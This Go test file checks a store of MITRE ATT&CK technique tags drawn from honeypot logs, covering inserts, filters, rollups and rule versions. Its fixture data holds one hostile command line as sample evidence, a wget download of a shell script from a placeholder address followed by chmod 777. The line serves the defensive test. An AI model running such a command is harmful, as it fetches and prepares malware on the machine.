package storetest

import (
	"context"
	"errors"
	"fmt"
	"maps"
	"slices"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"ttpctl/internal/event"
	"ttpctl/internal/store"
)

// A TagFixture is one repository of tags under the suite.
type TagFixture struct {
	store.Tags
	LinkCampaigns func(context.Context, []store.CampaignLink) (added int, err error)
}

// Tags runs the suite of [store.Tags] over repositories that fixture makes.
func Tags(t *testing.T, fixture func(t *testing.T) TagFixture) {
	for name, test := range map[string]func(*testing.T, TagFixture){
		"insert": testTagsInsert, "round trip": testTagsRoundTrip, "rollups": testTagsRollups, "techniques": testTagsTechniques,
		"subjects": testTagsSubjects, "sub-techniques": testTagsSubTechniques, "limit": testTagsLimit,
		"versions": testTagsVersions,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			test(t, fixture(t))
		})
	}
}

// SomeTags returns n tags, numbered from first, of the shape that a Cowrie log
// gives: no identity, a session of about 12 tags, 200 attackers.
func SomeTags(first, n int) []event.Tag {
	tags := make([]event.Tag, n)
	for i := range tags {
		id := first + i
		source := fmt.Sprintf("cmd_%08d", id)
		technique := fmt.Sprintf("T%04d", 1000+id%60)
		rule := fmt.Sprintf("R%04d", id%62)
		tags[i] = event.Tag{
			UUID:       event.TagUUID(new([]byte), "command", source, rule, 1, technique, technique+".001"),
			SourceKind: "command", SourceID: source, AttackerIP: fmt.Sprintf("198.51.100.%d", id/12%200),
			AttackerUUID: fmt.Sprintf("3a90f681-a007-5d06-8036-%012d", id/12%200),
			SessionID:    event.Some(fmt.Sprintf("session-%d", id/12)), DeckyID: event.Some("decky-1"),
			Tactic: "TA0002", Technique: technique, SubTechnique: technique + ".001", Confidence: 0.85,
			RuleID: rule, RuleVersion: 1,
			Evidence:      []byte(`{"command_text":"cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh","matched":"wget http"}`),
			AttackRelease: "enterprise-v19.1", MitreURL: "https://attack.mitre.org/techniques/" + technique + "/001",
			ObservedAt: "2026-11-22T10:00:00Z",
		}
	}
	return tags
}

// NamedTag returns tag number i with the anchors given.
func NamedTag(i int, attacker, identity string) event.Tag {
	tag := SomeTags(i, 1)[0]
	tag.AttackerUUID, tag.IdentityUUID = attacker, identity
	return tag
}

func insert(t *testing.T, f TagFixture, tags ...event.Tag) store.Inserted {
	t.Helper()
	in, err := f.Insert(t.Context(), tags)
	if err != nil {
		t.Fatalf("Insert() error = %v", err)
	}
	return in
}

// chosen returns the tags that f chooses.
func chosen(t *testing.T, tags store.Tags, f store.Filter) []store.StoredTag {
	t.Helper()
	var all []store.StoredTag
	err := tags.Each(t.Context(), f, 0, func(tag *store.StoredTag) error {
		all = append(all, *tag)
		return nil
	})
	if err != nil {
		t.Fatalf("Each(%+v) error = %v", f, err)
	}
	sameCounted(t, tags, f, all)
	return all
}

// sameCounted fails when EachCounted does not yield the tags that Each did.
func sameCounted(t *testing.T, tags store.Tags, f store.Filter, all []store.StoredTag) {
	t.Helper()
	var want, got []event.Tag
	for i := range all {
		tag := all[i].Tag
		tag.UUID, tag.MitreURL = event.UUID{}, ""
		want = append(want, tag)
	}
	err := tags.EachCounted(t.Context(), f, func(tag *event.Tag) error {
		got = append(got, *tag)
		got[len(got)-1].Evidence = slices.Clone(tag.Evidence)
		return nil
	})
	if diff := cmp.Diff(want, got); err != nil || diff != "" {
		t.Errorf("EachCounted(%+v) error = %v, tags (-want +got):\n%s", f, err, diff)
	}
}

// numbers returns the numbers that SomeTags gave to tags.
func numbers(t *testing.T, tags []store.StoredTag) []int {
	t.Helper()
	var ns []int
	for _, tag := range tags {
		var n int
		if _, err := fmt.Sscanf(tag.SourceID, "cmd_%d", &n); err != nil {
			t.Fatal(err)
		}
		ns = append(ns, n)
	}
	return ns
}

func testTagsInsert(t *testing.T, f TagFixture) {
	low := NamedTag(3, "a", "")
	low.Confidence = 0.2999
	edge := NamedTag(4, "a", "")
	edge.Confidence = event.Floor
	tags := []event.Tag{NamedTag(1, "a", ""), low, NamedTag(2, "", "i"), NamedTag(1, "b", ""), edge}
	want := store.Inserted{New: []int{0, 2, 4}, Duplicates: 1, BelowFloor: 1}
	if diff := cmp.Diff(want, insert(t, f, tags...)); diff != "" {
		t.Errorf("Insert() (-want +got):\n%s", diff)
	}
	want = store.Inserted{Duplicates: 4, BelowFloor: 1}
	if diff := cmp.Diff(want, insert(t, f, tags...)); diff != "" {
		t.Errorf("replay (-want +got):\n%s", diff)
	}
	if in := insert(t, f); len(in.New) != 0 {
		t.Errorf("Insert() of nothing = %v", in)
	}
}

// A tag comes out as it went in, to the byte.
func testTagsRoundTrip(t *testing.T, f TagFixture) {
	bare := NamedTag(1, "", "identity")
	bare.SessionID, bare.DeckyID, bare.SubTechnique, bare.ObservedAt = event.OptString{}, event.OptString{}, "", ""
	odd := NamedTag(2, "a'b\x00c", "ü")
	odd.SessionID, odd.SourceID, odd.Evidence = event.Some(""), "\xff|'--", []byte(`{"command_text":"\u0000"}`)
	odd.Confidence = 0.3001
	odd.AttackerIP = "2001:db8::1"
	insert(t, f, bare, odd)
	got := chosen(t, f, store.Filter{})
	if len(got) != 2 {
		t.Fatalf("%d tags, want 2", len(got))
	}
	for i, want := range []event.Tag{odd, bare} {
		if diff := cmp.Diff(want, got[i].Tag); diff != "" {
			t.Errorf("tag %d (-want +got):\n%s", i, diff)
		}
		if got[i].CreatedAt.IsZero() {
			t.Errorf("tag %d has no created_at", i)
		}
	}
}

// fillRollups stores two attackers that one identity ties together, one that
// stands alone, and findings anchored to identities only.
func fillRollups(t *testing.T, f TagFixture) {
	t.Helper()
	loner := event.IdentityUUID("c").String()
	tags := []event.Tag{
		NamedTag(1, "a", ""), NamedTag(2, "a", "I"), NamedTag(3, "b", "I"), NamedTag(4, "b", ""),
		NamedTag(5, "", "I"), NamedTag(6, "c", ""), NamedTag(7, "", loner), NamedTag(8, "", "J"),
	}
	tags[2].AttackerIP, tags[7].AttackerIP = "203.0.113.9", "203.0.113.9"
	insert(t, f, tags...)
	for campaign, ids := range map[string][]string{"spring": {"I", "J"}, "autumn": {loner, "nobody"}} {
		var links []store.CampaignLink
		for _, id := range append(ids, ids[0]) {
			links = append(links, store.CampaignLink{Campaign: campaign, Identity: id})
		}
		if n, err := f.LinkCampaigns(t.Context(), links); err != nil || n != 2 {
			t.Errorf("LinkCampaigns(%v) = %d, %v, want 2", links, n, err)
		}
	}
}

func testTagsRollups(t *testing.T, f TagFixture) {
	fillRollups(t, f)
	loner := event.IdentityUUID("c").String()
	seen := time.Date(2026, 11, 22, 10, 0, 0, 0, time.UTC) // by all of them
	for _, c := range []struct {
		filter store.Filter
		want   []int // numbers of the tags
	}{
		{store.Filter{}, []int{1, 2, 3, 4, 5, 6, 7, 8}},
		{store.Filter{Attackers: []store.Attacker{{UUID: "a"}}}, []int{1, 2}},
		{store.Filter{Attackers: []store.Attacker{{UUID: "a"}, {UUID: "c"}}}, []int{1, 2, 6}},
		{store.Filter{Attackers: []store.Attacker{{UUID: "derived", Address: "203.0.113.9"}}}, []int{3, 8}},
		{store.Filter{Identity: "I"}, []int{1, 2, 3, 4, 5}},
		{store.Filter{Identity: "J"}, []int{8}},
		{store.Filter{Identity: loner}, []int{6, 7}},
		{store.Filter{Identity: event.IdentityUUID("a").String()}, []int{1, 2}},
		{store.Filter{Sessions: []string{"session-0"}}, []int{1, 2, 3, 4, 5, 6, 7, 8}},
		{store.Filter{Sessions: []string{"session-1"}}, nil},
		{store.Filter{Campaign: "spring"}, []int{1, 2, 3, 4, 5, 8}},
		{store.Filter{Campaign: "autumn"}, []int{6, 7}},
		{store.Filter{Filter: event.Filter{Rules: []string{"R0003", "R0005"}}}, []int{3, 5}},
		{store.Filter{Filter: event.Filter{Techniques: []string{"T1004"}}}, []int{4}},
		{store.Filter{Filter: event.Filter{Techniques: []string{"T1004.001", "T1005"}}}, []int{4, 5}},
		{store.Filter{Filter: event.Filter{Techniques: []string{"T1004.002"}}}, nil},
		{store.Filter{Filter: event.Filter{Tactics: []string{"TA0002"}}}, []int{1, 2, 3, 4, 5, 6, 7, 8}},
		{store.Filter{Filter: event.Filter{Tactics: []string{"TA0001"}}}, nil},
		{store.Filter{Attackers: []store.Attacker{{UUID: "nobody"}}}, nil},
		{store.Filter{Filter: event.Filter{MinConfidence: 0.86}}, nil},
		{store.Filter{Filter: event.Filter{MinConfidence: 0.85, Rules: []string{"R0007"}}}, []int{7}},
		{store.Filter{Filter: event.Filter{Rules: []string{"R0003", "R0006"}}, Campaign: "spring"}, []int{3}},
		{store.Filter{Filter: event.Filter{Since: seen, Until: seen.Add(time.Millisecond)}}, []int{1, 2, 3, 4, 5, 6, 7, 8}},
		{store.Filter{Filter: event.Filter{Since: seen.Add(time.Millisecond)}}, nil},
		{store.Filter{Filter: event.Filter{Until: seen}}, nil},
	} {
		newestFirst := slices.Clone(c.want)
		slices.Reverse(newestFirst)
		if got := numbers(t, chosen(t, f, c.filter)); !slices.Equal(got, newestFirst) {
			t.Errorf("Each(%+v) = %v, want %v", c.filter, got, newestFirst)
		}
		techniques, err := f.Techniques(t.Context(), c.filter)
		if err != nil || len(techniques) != len(c.want) {
			t.Errorf("Techniques(%+v) = %d (%v), want %d", c.filter, len(techniques), err, len(c.want))
		}
		rules, err := f.Subjects(t.Context(), store.ByRule, c.filter)
		if err != nil || len(rules) != len(c.want) {
			t.Errorf("Subjects(%+v) = %d rules (%v), want %d", c.filter, len(rules), err, len(c.want))
		}
	}
}

func testTagsTechniques(t *testing.T, f TagFixture) {
	tags := []event.Tag{NamedTag(1, "a", ""), NamedTag(2, "a", ""), NamedTag(3, "a", ""), NamedTag(4, "a", ""), NamedTag(5, "a", ""), NamedTag(6, "a", "")}
	for i := range tags {
		tags[i].Technique, tags[i].SubTechnique, tags[i].Tactic = "T1059", "T1059.004", "TA0002"
		tags[i].Confidence = 0.5 + float64(i%3)/10
	}
	tags[3].RuleID = tags[0].RuleID // again, in one session
	for i := range tags[4:] {       // twice in none
		tags[4+i].RuleID, tags[4+i].SessionID = tags[0].RuleID, event.OptString{}
	}
	tags[5].Confidence = 0.5
	tags[1].ObservedAt = "2026-11-22T11:00:00.5+02:00" // 09:00:00.5 UTC
	tags[2].SubTechnique = ""
	insert(t, f, tags...)
	got, err := f.Techniques(t.Context(), store.Filter{Attackers: []store.Attacker{{UUID: "a"}}})
	if err != nil {
		t.Fatal(err)
	}
	at := time.Date(2026, 11, 22, 10, 0, 0, 0, time.UTC)
	want := []store.TechniqueCount{
		{Tactic: "TA0002", Technique: "T1059", SubTechnique: "", Hits: 1, Tags: 1, Rules: 1, Confidence: 0.7, First: at, Last: at},
		{Tactic: "TA0002", Technique: "T1059", SubTechnique: "T1059.004", Hits: 4, Tags: 5, Rules: 2, Confidence: 0.6, First: at.Add(-time.Hour + 500*time.Millisecond), Last: at},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Techniques() (-want +got):\n%s", diff)
	}
}

func testTagsSubjects(t *testing.T, f TagFixture) {
	fillRollups(t, f)
	loner := event.IdentityUUID("c").String()
	for _, c := range []struct {
		by   store.Dimension
		want map[string]int // tags by id
	}{
		{store.ByAttacker, map[string]int{"a": 2, "b": 2, "c": 1}},
		{store.ByIdentity, map[string]int{"I": 5, "J": 1, loner: 2}},
		{store.ByCampaign, map[string]int{"spring": 6, "autumn": 2}},
		{store.BySession, map[string]int{"session-0": 8}},
		{store.ByRule, map[string]int{"R0001": 1, "R0002": 1, "R0003": 1, "R0004": 1, "R0005": 1, "R0006": 1, "R0007": 1, "R0008": 1}},
		{store.ByTechnique, map[string]int{"T1001": 1, "T1002": 1, "T1003": 1, "T1004": 1, "T1005": 1, "T1006": 1, "T1007": 1, "T1008": 1}},
	} {
		ss, err := f.Subjects(t.Context(), c.by, store.Filter{})
		if err != nil {
			t.Errorf("Subjects(%d) error = %v", c.by, err)
		}
		got := map[string]int{}
		for _, s := range ss {
			got[s.ID] = s.Tags
			if s.Techniques != s.Tags || s.First.Year() != 2026 || s.Last.Before(s.First) {
				t.Errorf("Subjects(%d): %+v, want as many techniques as tags", c.by, s)
			}
		}
		if diff := cmp.Diff(c.want, got); diff != "" {
			t.Errorf("Subjects(%d) (-want +got):\n%s", c.by, diff)
		}
	}
}

// A technique and its sub-technique are two, here as in the table of tag.
func testTagsSubTechniques(t *testing.T, f TagFixture) {
	tags := []event.Tag{NamedTag(1, "a", ""), NamedTag(2, "a", ""), NamedTag(3, "a", "")}
	for i, sub := range []string{"", "T1110.001", "T1110.001"} {
		tags[i].Technique, tags[i].SubTechnique, tags[i].RuleID = "T1110", sub, "R0001"
	}
	insert(t, f, tags...)
	ss, err := f.Subjects(t.Context(), store.ByAttacker, store.Filter{})
	if err != nil || len(ss) != 1 || ss[0].Techniques != 2 || ss[0].Hits != 2 || ss[0].Tags != 3 {
		t.Errorf("Subjects(store.ByAttacker) = %+v, %v, want one attacker with 2 techniques, each a hit, in 3 tags", ss, err)
	}
}

func testTagsLimit(t *testing.T, f TagFixture) {
	for i := range 5 { // two tags of one instant each
		insert(t, f, SomeTags(2*i, 2)...)
	}
	var got []int
	stop := errors.New("enough")
	err := f.Each(t.Context(), store.Filter{}, 4, func(tag *store.StoredTag) error {
		got = append(got, numbers(t, []store.StoredTag{*tag})...)
		if len(got) == 3 {
			return stop
		}
		return nil
	})
	if want := []int{9, 8, 7}; err != stop || !slices.Equal(got, want) {
		t.Errorf("Each() = %v, %v, want %v and the error of yield", got, err, want)
	}
	n := 0
	err = f.Each(t.Context(), store.Filter{}, 4, func(*store.StoredTag) error { n++; return nil })
	if err != nil || n != 4 {
		t.Errorf("Each(limit 4) = %d tags, %v", n, err)
	}
	all := chosen(t, f.Tags, store.Filter{})
	for i := range all {
		if diff := cmp.Diff(all[i+1:], chosen(t, f.Tags, store.Filter{Before: all[i].Seq}), cmpopts.EquateEmpty()); diff != "" {
			t.Errorf("those stored before number %d (-want +got):\n%s", i, diff)
		}
	}
}

// Of a rule that changed, what its highest version said of an event counts; a
// version that said nothing of the event takes nothing back.
func testTagsVersions(t *testing.T, f TagFixture) {
	version := func(i, v int, technique string) event.Tag {
		tag := NamedTag(i, "a", "")
		tag.RuleID, tag.RuleVersion, tag.Technique, tag.SubTechnique = "R0001", v, technique, ""
		tag.UUID = event.TagUUID(new([]byte), tag.SourceKind, tag.SourceID, tag.RuleID, v, technique, "")
		return tag
	}
	other := version(1, 3, "T1003")
	other.SourceKind = "http_request" // the id is that of another kind's event
	insert(t, f, version(1, 1, "T1001"), version(2, 1, "T1001"), version(1, 10, "T1002"), version(1, 9, "T1004"), other, NamedTag(3, "a", ""))
	for _, c := range []struct {
		filter store.Filter
		want   []string
	}{
		{store.Filter{}, []string{"T1001 1", "T1002 1", "T1003 2"}},
		{store.Filter{Filter: event.Filter{Techniques: []string{"T1001"}}}, []string{"T1001 1"}},
		{store.Filter{Filter: event.Filter{Techniques: []string{"T1004"}}}, nil},
		{store.Filter{AllVersions: true}, []string{"T1001 2", "T1002 1", "T1003 2", "T1004 1"}},
	} {
		counts, err := f.Techniques(t.Context(), c.filter)
		if err != nil {
			t.Fatal(err)
		}
		sum := map[string]int{}
		for _, n := range counts {
			sum[n.Technique] += n.Tags
		}
		var got []string
		for _, id := range slices.Sorted(maps.Keys(sum)) {
			got = append(got, fmt.Sprint(id, " ", sum[id]))
		}
		if diff := cmp.Diff(c.want, got); diff != "" {
			t.Errorf("Techniques(%+v) (-want +got):\n%s", c.filter, diff)
		}
	}
	ss, err := f.Subjects(t.Context(), store.ByAttacker, store.Filter{})
	if err != nil || len(ss) != 1 || ss[0].Tags != 4 {
		t.Errorf("Subjects() = %+v, %v, want one attacker with 4 tags", ss, err)
	}
}
